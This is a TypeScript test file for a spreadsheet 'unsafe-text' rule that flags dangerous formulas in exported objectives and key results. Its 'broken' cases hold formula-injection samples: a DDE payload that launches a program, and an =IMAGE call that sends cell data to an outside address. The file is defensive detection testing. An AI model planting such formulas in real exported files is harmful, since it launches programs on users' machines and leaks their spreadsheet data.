import { testRule } from '../_rules.ts';

const FETCH = '=IMPORTDATA("https://list.example/owners.csv")';

testRule('unsafe-text', {
  kept: [
    // Words that only look like a formula are words, and stay so.
    { with: { keyResults: [{ keyResult: '-5 % churn by June' }], made: [] } },
    { with: { keyResults: [{ notes: '+1 from the board, =SUM of all wishes' }], made: [] } },
    { column: 'owner', formula: '=VLOOKUP(A2,People!A:B,2,FALSE)' },
    { column: 'source', formula: '=HYPERLINK("https://jira.example/browse/"&A2,"Ticket")' },
    { column: 'owner', formula: '=IMAGE("https://faces.example/ida.png")' },
    // A number that is fetched is a feed, and a good one.
    { column: 'current', formula: '=IMPORTXML("https://status.example","//uptime")' },
    { column: 'keyResult', formula: '="Never use IMPORTXML( here"' },
  ],
  broken: [
    [
      { column: 'owner', formula: FETCH, shown: 'Ida Brandt' },
      {
        header: 'Owner',
        does: 'fetches from an address',
        formula: '“=IMPORTDATA("https://list.example/owners.csv")”',
      },
      { severity: 'error', tab: 'keyResults', row: 2, column: 'owner', id: 'O1-KR1', fix: null },
    ],
    [
      { column: 'keyResult', formula: "=cmd|'/C calc'!A0" },
      { header: 'Key result', does: 'starts another program', formula: "“=cmd|'/C calc'!A0”" },
    ],
    [
      { tab: 'objectives', column: 'why', formula: '=IMAGE("https://x.example/?"&C2)' },
      {
        header: 'Why now',
        does: 'sends cells to an address',
        formula: '“=IMAGE("https://x.example/?"&C2)”',
      },
      { tab: 'objectives', id: 'O1' },
    ],
  ],
});
